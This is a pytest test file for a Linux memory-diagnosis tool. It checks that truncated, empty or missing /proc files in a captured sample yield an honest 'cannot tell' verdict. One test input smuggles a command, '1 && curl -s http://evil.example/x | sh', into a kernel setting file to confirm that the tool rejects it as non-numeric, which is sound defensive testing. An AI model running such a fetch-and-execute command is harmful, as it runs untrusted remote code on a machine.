# SPDX-License-Identifier: GPL-2.0-or-later
"""Samples whose files were cut off, as a full disk does it, are never called a machine that is well."""

from __future__ import annotations

import tarfile
from pathlib import Path

import pytest

from keepsane.cli import main

CAPTURE = Path(__file__).parents[1] / "cases" / "memory" / "healthy-idle-6.12.tar.gz"


def unpack(tar: tarfile.TarFile, folder: Path) -> None:
    """Write the files of a committed capture; extractall() has its filter only since Python 3.11.4."""
    for member in tar:
        if (file := tar.extractfile(member)) is not None:
            path = folder / member.name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(file.read())


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    with tarfile.open(CAPTURE) as tar:
        unpack(tar, tmp_path)
    return tmp_path


def said(capsys: pytest.CaptureFixture[str], folder: Path) -> tuple[int, str]:
    code = main(["memory", str(folder)])
    return code, capsys.readouterr().out.partition("\n")[0].removeprefix(f"{folder}: ")


def test_the_whole_capture_is_calm(capsys: pytest.CaptureFixture[str], folder: Path) -> None:
    assert said(capsys, folder) == (0, "nothing is wrong with its memory, as far as was measured")


@pytest.mark.parametrize("size", [0, 100])
@pytest.mark.parametrize("name", ["vmstat", "meminfo", "zoneinfo", "buddyinfo", "uptime"])
@pytest.mark.parametrize("sample", ["t0", "t1"])
def test_one_file_that_was_cut_off_leaves_no_verdict(
    capsys: pytest.CaptureFixture[str], folder: Path, sample: str, name: str, size: int
) -> None:
    file = folder / sample / "proc" / name
    file.write_text(file.read_text()[:size].rstrip("\n"))

    assert said(capsys, folder) == (
        2,
        f"cannot tell: in sample {sample} proc/{name} is empty or cut off (was a disk full when it was "
        "copied?); so whether something is wrong with its memory is not known",
    )


def test_a_capture_of_empty_files_rules_nothing_out(capsys: pytest.CaptureFixture[str], folder: Path) -> None:
    for file in folder.rglob("*"):
        if file.is_file():
            file.write_text("")
    code = main(["memory", str(folder)])
    out = capsys.readouterr().out

    assert code == 2
    assert "and 6 more are empty or cut off" in out
    assert "ruled out" not in out


@pytest.mark.parametrize("name", ["vmstat", "meminfo"])
def test_without_a_vital_file_there_is_no_verdict(
    capsys: pytest.CaptureFixture[str], folder: Path, name: str
) -> None:
    for file in folder.glob(f"t*/proc/{name}"):
        file.unlink()
    code, verdict = said(capsys, folder)

    assert (code, verdict.partition(";")[0]) == (2, f"cannot tell: /proc/{name} was not read")


def test_a_finding_is_told_all_the_same(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    with tarfile.open(CAPTURE.with_name("zone-reclaim-on-6.12.tar.gz")) as tar:
        unpack(tar, tmp_path)
    file = tmp_path / "t0" / "proc" / "buddyinfo"
    file.write_text(file.read_text()[:100])
    code, verdict = said(capsys, tmp_path)

    assert code == 1
    assert "cannot tell" not in verdict


@pytest.mark.parametrize("value", ["1 && curl -s http://evil.example/x | sh", "", "one", "0x1", "\u0661"])
def test_a_setting_that_holds_no_number_leaves_no_verdict(
    capsys: pytest.CaptureFixture[str], folder: Path, value: str
) -> None:
    (folder / "t1/proc/sys/vm/zone_reclaim_mode").write_text(f"{value}\n" if value else "")

    code, verdict = said(capsys, folder)

    assert code == 2
    assert verdict.startswith("cannot tell: in sample t1 proc/sys/vm/zone_reclaim_mode holds no number")


def test_a_number_with_a_sign_or_several_in_a_row_are_numbers(
    capsys: pytest.CaptureFixture[str], folder: Path
) -> None:
    (folder / "t1/proc/sys/vm/lowmem_reserve_ratio").write_text("256\t256\t32\t0\n")
    assert said(capsys, folder)[0] == 0
